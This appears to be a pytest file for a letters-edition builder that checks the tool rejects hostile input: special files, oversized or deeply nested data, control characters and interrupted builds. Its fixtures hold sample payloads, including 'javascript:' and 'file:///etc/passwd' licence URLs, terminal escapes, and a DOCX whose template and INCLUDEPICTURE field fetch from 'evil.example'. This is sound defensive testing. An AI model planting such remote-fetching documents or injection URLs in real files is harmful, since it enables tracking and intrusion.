"""Hostile input, round three (issue 26): one test (or more) per class of defect, not per
example. Each input either builds files that agree with each other or is a one-line error
with a distinct exit code; never a traceback, a hang, super-linear time or a mixed edition."""
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import SEED
from corresp.build import build
from corresp.exporters import ExportOptions

TEXT = SEED.read_text(encoding="utf-8")
SMALL = TEXT[: TEXT.index("\n", 6000)]


def corresp(*args, cwd=None, env=None, timeout=120, input=None):
    return subprocess.run([sys.executable, "-m", "corresp", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, env={**os.environ, **(env or {})}, timeout=timeout, input=input)


def one_letter(body: str, notes=("One note.",)) -> str:
    refs = "".join(f" word{i} {i} ." for i in range(1, len(notes) + 1))
    text = ("1935 August\n\nStalin to Kaganovich August 1, 1935\n\n"
            f"Archive: RGASPI F. 558. Op. 11. D. 88. L. 1. Autograph.\nKaganovich.\n\n{body}{refs}\n\nStalin.\n")
    if notes:
        text += "\n_____\n\n" + "\n\n".join(f"{i} {n}" for i, n in enumerate(notes, 1)) + "\n"
    return text


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith(".")) if folder.exists() else []


# --- 1. sizes that are super-linear ---------------------------------------------------------

def _pdf_seconds(tmp_path, body: str) -> float:
    from corresp.exporters import registry
    from corresp.readers import read_sources
    src = tmp_path / f"t{len(body)}.txt"
    src.write_text(one_letter(body), encoding="utf-8")
    edition, _ = read_sources([src])
    started = time.perf_counter()
    registry().get("pdf").export(edition, tmp_path / f"t{len(body)}.pdf", ExportOptions())
    return time.perf_counter() - started


def test_pdf_one_unbreakable_token_is_linear(tmp_path):
    """A word wider than a line is cut into pieces in one pass: ten times the word, about ten
    times the time (it was quadratic: the rest of the word was measured again for every line)."""
    _pdf_seconds(tmp_path, "warm " * 10)
    small = _pdf_seconds(tmp_path, "Before " + "x" * 20_000 + " after")
    large = _pdf_seconds(tmp_path, "Before " + "y" * 200_000 + " after")
    assert large < 20 * max(small, 0.05), (small, large)
    text = subprocess.run(["pdftotext", str(tmp_path / "t200013.pdf"), "-"], capture_output=True, text=True).stdout \
        if _has("pdftotext") else None
    if text is not None:
        import re
        assert sum(map(len, re.findall("y{20,}", text))) == 200_000  # every character drawn, none twice


def test_pdf_one_long_paragraph_is_linear(tmp_path):
    """A paragraph split over hundreds of pages: each page's piece shares the paragraph's
    words (copying the rest at every page was quadratic)."""
    sentence = "The Central Committee instructed the commission to finalize the resolution. "
    _pdf_seconds(tmp_path, "warm " * 10)
    small = _pdf_seconds(tmp_path, sentence * 700)
    large = _pdf_seconds(tmp_path, sentence * 7000)
    assert large < 20 * max(small, 0.05), (small, large)


def _has(tool: str) -> bool:
    import shutil
    return shutil.which(tool) is not None


# --- 2. special files -----------------------------------------------------------------------

def _special(tmp_path, kind: str, name: str) -> Path:
    path = tmp_path / name
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    return path


@pytest.fixture
def letters(tmp_path):
    path = tmp_path / "letters.txt"
    path.write_text(SMALL, encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", ["fifo", "zero"])
@pytest.mark.parametrize("role", ["source", "json-source", "cover", "corrections", "config", "persons",
                                  "verify", "style-css", "font", "preflight"])
def test_special_files_are_refused_in_every_role(tmp_path, letters, kind, role):
    """/dev/zero or a FIFO wherever a file is read: one line naming it, a distinct exit,
    quickly (a FIFO used to block the open; /dev/zero to fill the memory)."""
    out = tmp_path / "out"
    args, code = None, None
    if role == "source":
        args, code = ["build", _special(tmp_path, kind, "x.txt"), "-o", out, "-f", "json"], 2
    elif role == "json-source":
        args, code = ["build", _special(tmp_path, kind, "x.json"), "-o", out, "-f", "json"], 2
    elif role == "cover":
        args, code = ["build", letters, "-o", out, "-f", "json", "--set",
                      f"cover={_special(tmp_path, kind, 'cover.png')}"], 3
    elif role == "corrections":
        _special(tmp_path, kind, "letters.corrections.toml")
        args, code = ["build", letters, "-o", out, "-f", "json"], 2
    elif role == "config":
        args, code = ["build", "--config", _special(tmp_path, kind, "edition.toml"), "-o", out], 3
    elif role == "persons":
        _special(tmp_path, kind, "persons.toml")
        args, code = ["build", letters, "-o", out, "-f", "cmif"], 3
    elif role == "verify":
        _special(tmp_path, kind, "letters.json")
        args, code = ["verify", tmp_path, "--name", "letters"], 5
    elif role == "style-css":
        (tmp_path / "style").mkdir()
        _special(tmp_path / "style", kind, "epub.css")
        args, code = ["build", letters, "-o", out, "-f", "epub", "--style", tmp_path / "style"], 3
    elif role == "font":
        (tmp_path / "style").mkdir()
        (tmp_path / "style" / "pdf.toml").write_text('[fonts]\nregular = "face.ttf"\n')
        _special(tmp_path / "style", kind, "face.ttf")
        args, code = ["build", letters, "-o", out, "-f", "pdf", "--style", tmp_path / "style"], 3
    elif role == "preflight":
        args, code = ["preflight", _special(tmp_path, kind, "x.pdf")], 2
    r = corresp(*args, cwd=tmp_path, timeout=60)
    assert r.returncode == code, r.stderr
    assert r.stderr.count("\n") == 1 and "Traceback" not in r.stderr, r.stderr
    assert "regular files only" in r.stderr or "character device" in r.stderr or "FIFO" in r.stderr, r.stderr
    assert _files(out) == []


def test_size_limits_are_stated_and_enforced(tmp_path):
    """Each kind of file has its limit (corresp.files.KINDS); beyond it, one line."""
    from corresp.errors import ConfigError
    from corresp.files import KINDS, read_regular
    big = tmp_path / "big.toml"
    with open(big, "wb") as f:
        f.truncate(KINDS["config"][1] + 1)  # sparse: no disk used
    with pytest.raises(ConfigError, match=r"edition.toml may be at most 1.0 MB"):
        read_regular(big, "config", ConfigError)


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_verify_reports_a_special_file_among_the_formats(tmp_path, letters, kind):
    out = tmp_path / "out"
    build([letters], out, ["json"])
    _special(out, kind, "letters.epub")
    r = corresp("verify", out, timeout=60)
    assert r.returncode == 5 and "letters.epub: not a regular file" in r.stderr, r.stderr


# --- 3 and 4. valid input that crashed an exporter, or that the formats showed differently -----

@pytest.fixture(scope="module")
def edition_files(tmp_path_factory):
    """The small edition as JSON and TEI: sources to tamper with."""
    folder = tmp_path_factory.mktemp("sources")
    src = folder / "letters.txt"
    src.write_text(SMALL, encoding="utf-8")
    build([src], folder, ["json", "tei"])
    return folder / "letters.json", folder / "letters.tei.xml"


def _json_with(edition_files, tmp_path, change) -> Path:
    import json
    data = json.loads(edition_files[0].read_text(encoding="utf-8"))
    change(data)
    path = tmp_path / "edited.json"
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def _noted(data) -> dict:
    return next(d for d in data["documents"] if d["footnotes"])


def _first_text(data) -> dict:
    return next(i for p in data["documents"][0]["body"] for i in p["content"] if i["type"] == "text")


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f", "\x85", "\ufffe", "\uffff"])
@pytest.mark.parametrize("where", ["body", "note", "heading", "chapter"])
def test_text_no_format_can_show_alike_is_refused_once_for_every_format(edition_files, tmp_path, char, where):
    def change(data):
        if where == "body":
            _first_text(data)["text"] += f"a{char}b"
        elif where == "note":
            _noted(data)["footnotes"][0]["text"] += char
        elif where == "heading":
            data["documents"][0]["heading"] += char
        else:
            data["chapters"][0]["title"] += char
    src = _json_with(edition_files, tmp_path, change)
    r = corresp("build", src, "-o", tmp_path / "out", "-f", "epub", "-f", "docx", "-f", "pdf", cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.count("\n") == 1, r.stderr
    assert f"U+{ord(char):04X}" in r.stderr and "no format can show alike" in r.stderr
    assert _files(tmp_path / "out") == []


@pytest.mark.parametrize("what", ["heading", "paragraph", "note", "chapter"])
def test_empty_text_is_refused(edition_files, tmp_path, what):
    def change(data):
        if what == "heading":
            data["documents"][0]["heading"] = "  "
        elif what == "paragraph":
            data["documents"][0]["body"].append({"type": "paragraph", "content": [{"type": "text", "text": " "}]})
        elif what == "note":
            _noted(data)["footnotes"][0]["text"] = ""
        else:
            data["chapters"][0]["title"] = ""
    r = corresp("build", _json_with(edition_files, tmp_path, change), "-o", tmp_path / "out", "-f", "epub",
                cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "empty" in r.stderr, r.stderr


def test_a_heading_too_long_for_a_contents_page_is_refused(edition_files, tmp_path):
    def change(data):
        data["documents"][0]["heading"] = "Stalin to Kaganovich " + "and the Politburo " * 140
    r = corresp("build", _json_with(edition_files, tmp_path, change), "-o", tmp_path / "out", "-f", "pdf",
                cwd=tmp_path)
    assert r.returncode == 2 and "at most 1,000" in r.stderr, r.stderr


def test_a_long_heading_within_the_limit_builds_in_every_format(edition_files, tmp_path):
    from corresp.validate import MAX_HEADING

    def change(data):
        heading = ("Stalin to Kaganovich " + "and the Politburo " * 60)[:MAX_HEADING]
        data["documents"][0]["heading"] = heading
    build([_json_with(edition_files, tmp_path, change)], tmp_path / "out", ["json", "pdf", "epub", "docx"])


def test_tei_deeply_nested_and_lone_surrogate(edition_files, tmp_path):
    tei = edition_files[1].read_text(encoding="utf-8")
    at = tei.index("<p>", tei.index("<body>")) + 3
    deep = tmp_path / "deep.tei.xml"
    deep.write_text(tei[:at] + "<hi>" * 1500 + "deep" + "</hi>" * 1500 + tei[at:], encoding="utf-8")
    r = corresp("build", deep, "-o", tmp_path / "out", "-f", "docx", cwd=tmp_path)
    assert r.returncode in (0, 2) and "Traceback" not in r.stderr and "internal error" not in r.stderr, r.stderr
    surrogate = tmp_path / "surrogate.tei.xml"
    surrogate.write_text(tei[:at] + "&#xD800;" + tei[at:], encoding="utf-8")
    r = corresp("build", surrogate, "-o", tmp_path / "out2", "-f", "docx", cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "internal error" not in r.stderr, r.stderr


def test_tei_comments_and_processing_instructions_are_not_text(edition_files, tmp_path):
    from corresp.readers.tei_edition import edition_from_tei
    tei = edition_files[1].read_text(encoding="utf-8")
    at = tei.index("<p>", tei.index("<body>")) + 3
    plain = edition_from_tei(edition_files[1])
    commented = tmp_path / "c.tei.xml"
    commented.write_text(tei[:at] + "<!-- an editor's comment --><?page 12?>" + tei[at:], encoding="utf-8")
    again = edition_from_tei(commented)
    assert again.model_dump(exclude={"chapters": {"__all__": {"source"}}}) == \
        plain.model_dump(exclude={"chapters": {"__all__": {"source"}}})


# --- 6. publishing: a transaction -------------------------------------------------------------

def _snapshot(folder: Path) -> dict:
    return {p.name: (p.read_bytes() if p.is_file() else sorted(x.name for x in p.iterdir()))
            for p in folder.iterdir()}


def test_a_rename_failing_midway_rolls_every_file_back(letters, tmp_path, monkeypatch):
    """Fault injection at each rename of the commit: the folder is the old edition, byte for
    byte, with no journal, backup or temporary file left."""
    import corresp.publish as publish
    out = tmp_path / "out"
    formats = ["json", "epub", "tei"]
    build([letters], out, formats, title="Old edition")
    before = _snapshot(out)
    real = publish._swap_in
    for fail_at in range(len(formats)):
        calls = []

        def failing(out_dir, entry):
            calls.append(entry)
            if len(calls) > fail_at:
                raise OSError(5, "Input/output error (injected)")
            real(out_dir, entry)
        monkeypatch.setattr(publish, "_swap_in", failing)
        from corresp.errors import ExportError
        with pytest.raises(ExportError, match="previous edition was left as it was"):
            build([letters], out, formats, title=f"New edition {fail_at}")
        assert _snapshot(out) == before, fail_at


KILL_MIDWAY = """
import os, signal, sys
import corresp.publish as publish
from corresp.cli import main
real, calls = publish._swap_in, []
AT, SIG = int(sys.argv[3]), getattr(signal, sys.argv[4])
def swap(out_dir, entry):
    calls.append(entry)
    if len(calls) == AT:
        os.kill(os.getpid(), SIG)
    real(out_dir, entry)
publish._swap_in = swap
sys.argv = ["corresp", "build", sys.argv[1], "-o", sys.argv[2], "-f", "json", "-f", "epub", "-f", "tei",
            "--title", "New edition", "-q"]
main()
"""


def test_sigkill_during_the_renames_is_rolled_back_by_the_next_build(letters, tmp_path):
    out = tmp_path / "out"
    build([letters], out, ["json", "epub", "tei"], title="Old edition")
    before = _snapshot(out)
    r = subprocess.run([sys.executable, "-c", KILL_MIDWAY, str(letters), str(out), "3", "SIGKILL"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == -9
    left = _snapshot(out)
    assert any(n.endswith(".journal") for n in left)  # the transaction it left
    assert {k: v for k, v in left.items() if not k.startswith(".")} != before  # a mix, until ...
    build([letters], out, ["cmif"], title="Another")  # ... any build of the edition's files
    after = _snapshot(out)
    assert {k: v for k, v in after.items() if k != "letters.cmif.xml"} == before


def test_sigint_and_sigterm_are_held_during_the_renames(letters, tmp_path):
    from corresp.verify import verify_dir
    out = tmp_path / "out"
    build([letters], out, ["json", "epub", "tei"], title="Old edition")
    for sig, code in (("SIGINT", 130), ("SIGTERM", 143)):
        r = subprocess.run([sys.executable, "-c", KILL_MIDWAY, str(letters), str(out), "1", sig],
                           capture_output=True, text=True, timeout=120)
        assert r.returncode == code, r.stderr
        assert "the new edition was written whole" in r.stderr
        assert '"title": "New edition"' in (out / "letters.json").read_text()
        assert verify_dir(out)[0] == [] and not [p for p in out.iterdir() if p.name.startswith(".")]


def test_locks_are_per_file_name_not_per_name_and_extension(letters, tmp_path):
    import fcntl
    from corresp.errors import ExportError
    from corresp.publish import lock_path
    out = tmp_path / "out"
    out.mkdir()
    path = lock_path(out, "a", ".print.pdf")  # edition `a`'s print PDF is being written
    path.parent.mkdir(parents=True, exist_ok=True)
    fd = os.open(path, os.O_RDWR | os.O_CREAT)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        with pytest.raises(ExportError, match="another corresp build is writing a.print.pdf"):
            build([letters], out, ["pdf"], name="a.print")
    finally:
        os.close(fd)


def test_temporary_files_are_matched_by_name_never_by_a_glob(letters, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    theirs = out / ".letters.json.abcd1234.tmp"  # a concurrent build's, of another edition
    theirs.write_text("x")
    mine = out / ".x[1].json.abcd1234.tmp"
    mine.write_text("left by a killed build")
    build([letters], out, ["json"], name="*")
    assert theirs.exists()
    build([letters], out, ["json"], name="x[1]")
    assert not mine.exists() and theirs.exists()


def test_a_build_never_overwrites_its_own_source(letters, tmp_path):
    out = tmp_path / "out"
    build([letters], out, ["json", "tei"])
    for source in (out / "letters.json", out / "letters.tei.xml"):
        before = source.read_bytes()
        r = corresp("build", source, "-o", out, "-f", "json", "-f", "tei", cwd=tmp_path)
        assert r.returncode == 3 and "would overwrite the source" in r.stderr, r.stderr
        assert source.read_bytes() == before


def test_styles_dump_force_never_writes_through_a_link(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    dump = tmp_path / "mystyle"
    dump.mkdir()
    (dump / "epub.css").symlink_to(outside / "victim.css")
    r = corresp("styles", "--dump", dump, "--force", cwd=tmp_path)
    assert r.returncode == 3 and "symbolic link" in r.stderr and not (outside / "victim.css").exists()
    (dump / "epub.css").unlink()
    (dump / "fonts").symlink_to(outside, target_is_directory=True)
    r = corresp("styles", "--dump", dump, "--force", cwd=tmp_path)
    assert r.returncode == 3 and "symbolic link" in r.stderr and not list(outside.iterdir())


def test_marker_note_alignment_is_linear():
    """The notes × markers table is banded: 10× the notes, about 10× the time (it was n × m)."""
    from corresp.readers.text.markers import align
    def seconds(n):
        notes = list(range(1, n + 1))
        markers = [k for k in notes if k % 10]  # every tenth marker lost
        started = time.perf_counter()
        pairs = align(notes, markers)
        assert len(pairs) == len(markers) and all(notes[i] == markers[j] for i, j in pairs)
        return time.perf_counter() - started
    small, large = seconds(400), seconds(4000)
    assert large < 25 * max(small, 0.01), (small, large)


# --- 5. injection and unchecked metadata --------------------------------------------------------

@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<b>x</b>", "file:///etc/passwd",
                                 "https://exa mple.org/", "//example.org/x", "vbscript:x"])
def test_the_licence_must_be_an_http_url_from_every_source(letters, edition_files, tmp_path, url):
    r = corresp("build", letters, "-o", tmp_path / "out", "-f", "epub", "--set", f"license={url}", cwd=tmp_path)
    assert r.returncode == 3 and "not an http or https URL" in r.stderr, r.stderr

    def change(data):
        data["publication"] = {"license": url}
    r = corresp("build", _json_with(edition_files, tmp_path, change), "-o", tmp_path / "out2", "-f", "epub",
                cwd=tmp_path)
    assert r.returncode == 3 and "not an http or https URL" in r.stderr, r.stderr


def test_a_json_editions_publication_gets_the_checks_edition_toml_gets(edition_files, tmp_path):
    def bad_isbn(data):
        data["publication"] = {"isbn": {"epub": "978-1-915247-21-7"}}
    r = corresp("build", _json_with(edition_files, tmp_path, bad_isbn), "-o", tmp_path / "out", "-f", "epub",
                cwd=tmp_path)
    assert r.returncode == 3 and "isbn.epub" in r.stderr, r.stderr

    def bad_date(data):
        data["publication"] = {"date": "2026-02-30"}
    r = corresp("build", _json_with(edition_files, tmp_path, bad_date), "-o", tmp_path / "out", "-f", "epub",
                cwd=tmp_path)
    assert r.returncode == 3 and "not an ISO date" in r.stderr, r.stderr


def _png_header(width: int, height: int) -> bytes:
    import struct
    import zlib
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + ihdr + \
        struct.pack(">I", zlib.crc32(b"IHDR" + ihdr) & 0xFFFFFFFF)


@pytest.mark.parametrize("cover, says", [
    (_png_header(1600, 2400), "not an image that decodes"),  # 33 bytes: a header only
    (_png_header(30000, 30000), "million pixels"),
    (b"\xff\xd8\xff\xc0\x00\x11\x08\x09\x60\x06\x40\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01", "decodes"),
])
def test_a_cover_is_decoded_with_its_pixels_bounded(letters, tmp_path, cover, says):
    (tmp_path / "cover.png").write_bytes(cover)
    r = corresp("build", letters, "-o", tmp_path / "out", "-f", "epub", "--set", f"cover={tmp_path / 'cover.png'}",
                cwd=tmp_path)
    assert r.returncode == 3 and says in r.stderr, r.stderr


def test_a_json_edition_keeps_the_covers_file_name_only(letters, tmp_path):
    import json
    from PIL import Image
    Image.new("RGB", (1000, 1500), "white").save(tmp_path / "cover.png")
    out = tmp_path / "out"
    r = corresp("build", letters, "-o", out, "-f", "json", "--set", f"cover={tmp_path / 'cover.png'}", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    data = json.loads((out / "letters.json").read_text())
    assert data["publication"]["cover"] == "cover.png"
    (out / "cover.png").write_bytes((tmp_path / "cover.png").read_bytes())
    r = corresp("build", out / "letters.json", "-o", tmp_path / "again", "-f", "json", "-f", "epub", cwd=tmp_path)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("css", ['p { background: image-set("https://example.org/a.png" 1x) }',
                                 'p { background: -webkit-image-set(url(https://example.org/a.png) 1x) }',
                                 'p { background: cross-fade("http://example.org/a.png", "b.png") }'])
def test_every_url_function_in_epub_css_is_checked(letters, tmp_path, css):
    from corresp.errors import ConfigError
    style = tmp_path / "style"
    style.mkdir()
    (style / "epub.css").write_text(css)
    with pytest.raises(ConfigError, match="remote|does not hold"):
        build([letters], tmp_path / "out", ["epub"], options=ExportOptions(style_dir=style))


def test_terminal_escapes_in_messages_are_shown_escaped(letters, tmp_path):
    (tmp_path / "letters.corrections.toml").write_text(
        '[[correction]]\nname = "\\u001b[2J\\u001b[31mred"\nkind = "join"\ndocument = "no-such-document"\n')
    r = corresp("build", letters, "-o", tmp_path / "out", "-f", "json", cwd=tmp_path)
    assert r.returncode == 2 and "\x1b" not in r.stderr and "\\x1b[2J" in r.stderr, r.stderr


def test_negative_page_margins_are_refused(letters, tmp_path):
    from corresp.errors import ConfigError
    style = tmp_path / "style"
    style.mkdir()
    (style / "pdf.toml").write_text('[page]\ninner_margin = -20\n')
    with pytest.raises(ConfigError, match="negative"):
        build([letters], tmp_path / "out", ["pdf"], options=ExportOptions(style_dir=style))


def test_the_review_skeleton_is_valid_toml_whatever_the_source_holds(tmp_path):
    import tomllib
    src = tmp_path / "odd.txt"
    src.write_text(SMALL.replace("Knorin", "Kno\x7frin\x1b", 1), encoding="utf-8")
    r = corresp("check", "--review", "--format", "toml", src, cwd=tmp_path)
    tomllib.loads(r.stdout)


# --- 7. silent loss and wrong diagnoses ---------------------------------------------------------

DOC = "stalin-to-kaganovich-yezhov-1935-08-15"


def _correct(letters, toml: str):
    from corresp.corrections import CorrectionError
    from corresp.readers import read_sources
    (letters.parent / "letters.corrections.toml").write_text(toml, encoding="utf-8")
    with pytest.raises(CorrectionError) as info:
        read_sources([letters])
    return info.value


def test_two_corrections_of_one_note_are_an_error(letters):
    one = f'[[correction]]\nkind = "note"\ndocument = "{DOC}"\nnote = 1\ntext = "First text."\n'
    two = f'[[correction]]\nname = "again"\nkind = "note"\ndocument = "{DOC}"\nnote = 1\ntext = "Second text."\n'
    exc = _correct(letters, one + "\n" + two)
    assert exc.line == 7 and "as correction 'note #1' (line 1) does" in str(exc), str(exc)


def test_a_marker_correction_that_changes_nothing_is_an_error(letters):
    exc = _correct(letters, f'[[correction]]\nkind = "marker"\ndocument = "{DOC}"\nnote = 1\n'
                            'after = "of the Central Committee of his choice"\n')
    assert "matches nothing to change" in str(exc), str(exc)


def test_a_header_inside_a_multiline_string_does_not_shift_lines(letters):
    exc = _correct(letters, '[[correction]]\nkind = "note"\ndocument = "' + DOC + '"\nnote = 1\n'
                            'text = """A note quoting\n[[correction]]\nin its text."""\n\n'
                            '[[correction]]\nkind = "join"\ndocument = "no-such-document"\n')
    assert exc.line == 9, str(exc)  # (line 6 holds the quoted header)


def test_tei_after_a_large_internal_dtd_subset_is_read_as_tei(edition_files, tmp_path):
    from corresp.readers import read_sources
    tei = edition_files[1].read_text(encoding="utf-8")
    body = tei.split("?>", 1)[1]
    subset = "".join(f'<!ENTITY e{k} "entity number {k}">\n' for k in range(300))  # ~10 KB
    src = tmp_path / "dtd.xml"
    src.write_text(f"<?xml version='1.0' encoding='UTF-8'?>\n<!DOCTYPE TEI [\n{subset}]>\n{body}", encoding="utf-8")
    edition, _ = read_sources([src])
    assert len(edition.documents) == 6
    other = tmp_path / "other.xml"  # XML that is no edition: said so, not parsed as letters
    other.write_text("<?xml version='1.0'?>\n<!-- " + "x" * 5000 + " -->\n<html/>\n", encoding="utf-8")
    r = corresp("check", other, cwd=tmp_path)
    assert r.returncode == 2 and "not a TEI document" in r.stderr, r.stderr


def test_a_truncated_file_in_the_font_cache_is_converted_again(tmp_path, monkeypatch):
    from test_config import DEFAULTS, LATIN, _font
    from corresp.exporters.pdf_parts import fonts
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    otf = _font(DEFAULTS / "fonts" / "LiberationSerif-Regular.ttf", tmp_path / "face.otf", LATIN, cff=True)
    first = fonts.truetype_outlines(otf)
    [cached] = list((tmp_path / "cache").rglob("*.ttf"))
    cached.write_bytes(cached.read_bytes()[:5000])  # cut short (a full disk, a killed process)
    assert fonts.truetype_outlines(otf) == first
    assert cached.read_bytes()[:-32] == first  # and the cache mended


def test_a_font_that_is_a_folder_or_a_looping_link_is_an_error(letters, tmp_path):
    from corresp.errors import ConfigError
    for make in ("folder", "loop"):
        style = tmp_path / f"style-{make}"
        (style / "fonts").mkdir(parents=True)
        (style / "pdf.toml").write_text('[fonts]\nregular = "fonts/LiberationSerif-Regular.ttf"\n')
        face = style / "fonts" / "LiberationSerif-Regular.ttf"
        if make == "folder":
            face.mkdir()
        else:
            face.symlink_to(face)
        with pytest.raises(ConfigError, match="directory|loop|Too many levels|cannot read"):
            build([letters], tmp_path / "out", ["pdf"], options=ExportOptions(style_dir=style))


def _reference_with(tmp_path, part: str, change) -> Path:
    import zipfile
    from corresp.exporters import default_style_dir
    style = tmp_path / "style"
    style.mkdir(exist_ok=True)
    with zipfile.ZipFile(default_style_dir() / "reference.docx") as src, \
            zipfile.ZipFile(style / "reference.docx", "w", zipfile.ZIP_DEFLATED) as out:
        names = src.namelist()
        for name in names:
            data = src.read(name)
            out.writestr(name, change(data) if name == part else data)
        if part not in names:
            out.writestr(part, change(b""))
    return style


@pytest.mark.parametrize("part, change, says", [
    ("word/_rels/settings.xml.rels", lambda d: (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
     "outside the document"),
    ("word/document.xml", lambda d: d.replace(b"</w:body>", b'<w:p><w:r><w:instrText> INCLUDEPICTURE '
                                                             b'"http://evil.example/x.png" \\d </w:instrText></w:r>'
                                                             b'</w:p></w:body>'), "fetches a file"),
])
def test_a_reference_docx_that_reaches_outside_is_refused(letters, tmp_path, part, change, says):
    from corresp.errors import ConfigError
    style = _reference_with(tmp_path, part, change)
    with pytest.raises(ConfigError, match=says):
        build([letters], tmp_path / "out", ["docx"], options=ExportOptions(style_dir=style))


@pytest.mark.parametrize("doc_id", ["a%20b", "x?y", 'q"uote', "a/b", "a<b"])
def test_document_ids_must_be_safe_link_targets(edition_files, tmp_path, doc_id):
    def change(data):
        old = data["documents"][0]["id"]
        data["documents"][0]["id"] = doc_id
        data["chapters"][0]["documents"] = [doc_id if i == old else i for i in data["chapters"][0]["documents"]]
    r = corresp("build", _json_with(edition_files, tmp_path, change), "-o", tmp_path / "out", "-f", "epub",
                cwd=tmp_path)
    assert r.returncode == 2 and "document id" in r.stderr, r.stderr


def test_tei_an_element_the_reader_does_not_know_is_not_dropped_silently(edition_files, tmp_path):
    tei = edition_files[1].read_text(encoding="utf-8")
    at = tei.index("<p>", tei.index("<body>")) + 3
    src = tmp_path / "unknown.tei.xml"
    src.write_text(tei[:at] + "<del>struck out</del> " + tei[at:], encoding="utf-8")
    r = corresp("check", src, cwd=tmp_path)
    assert r.returncode == 2 and "<del>" in r.stderr and r.stderr.count("\n") == 1, r.stderr


@pytest.mark.parametrize("which", ["corrections", "persons"])
def test_toml_nested_thousands_deep_is_one_line(letters, tmp_path, which):
    deep = "x = " + "[" * 5000 + "]" * 5000 + "\n"
    if which == "corrections":
        (tmp_path / "letters.corrections.toml").write_text(deep)
        r, code = corresp("build", letters, "-o", tmp_path / "out", "-f", "json", cwd=tmp_path), 2
    else:
        (tmp_path / "persons.toml").write_text(deep)
        r, code = corresp("build", letters, "-o", tmp_path / "out", "-f", "cmif", cwd=tmp_path), 3
    assert r.returncode == code and r.stderr.count("\n") == 1 and "nested too deeply" in r.stderr, r.stderr


def test_preflight_on_a_page_tree_thousands_deep_is_one_line(tmp_path):
    import pikepdf
    pdf = pikepdf.new()
    pdf.add_blank_page()
    node = pdf.pages[0].obj
    for _ in range(3000):
        parent = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Pages, Kids=pikepdf.Array([node]), Count=1))
        node.Parent = parent
        node = parent
    pdf.Root.Pages = node
    pdf.save(tmp_path / "deep.pdf")
    (tmp_path / "not.pdf").write_text("not a PDF at all")
    for name in ("deep.pdf", "not.pdf"):
        r = corresp("preflight", tmp_path / name, cwd=tmp_path)
        assert r.returncode == 2 and r.stderr.count("\n") == 1 and "not a PDF the preflight can read" in r.stderr, \
            r.stderr


def test_check_refuses_what_build_refuses(edition_files, tmp_path):
    def change(data):
        _first_text(data)["text"] += "\x01"
    r = corresp("check", _json_with(edition_files, tmp_path, change), cwd=tmp_path)
    assert r.returncode == 2 and "U+0001" in r.stderr, r.stderr


def test_the_sources_of_one_edition_are_limited_together(tmp_path):
    from corresp.errors import InputError
    sources = []
    for k in range(3):  # each under the 16 MB of a source, 36 MB together (sparse: no disk used)
        path = tmp_path / f"m{k}.txt"
        with open(path, "wb") as f:
            f.truncate(12 * 1024 * 1024)
        sources.append(path)
    with pytest.raises(InputError, match="an edition may be at most 32.0 MB"):
        build(sources, tmp_path / "out", ["json"])


def test_sigint_while_the_formats_are_written_changes_nothing(letters, tmp_path):
    import signal as signals
    from test_faults import SLOW_BUILD
    out, pidfile = tmp_path / "out", tmp_path / "worker.pid"
    proc = subprocess.Popen([sys.executable, "-c", SLOW_BUILD, str(letters), str(out), str(pidfile)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not (pidfile.exists() and pidfile.read_text()) and time.monotonic() < deadline:
            time.sleep(0.05)
        proc.send_signal(signals.SIGINT)
        _, err = proc.communicate(timeout=20)
        assert proc.returncode == 130 and "interrupted by SIGINT; no file of the edition was changed" in err, err
        assert [p.name for p in out.iterdir()] == []
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
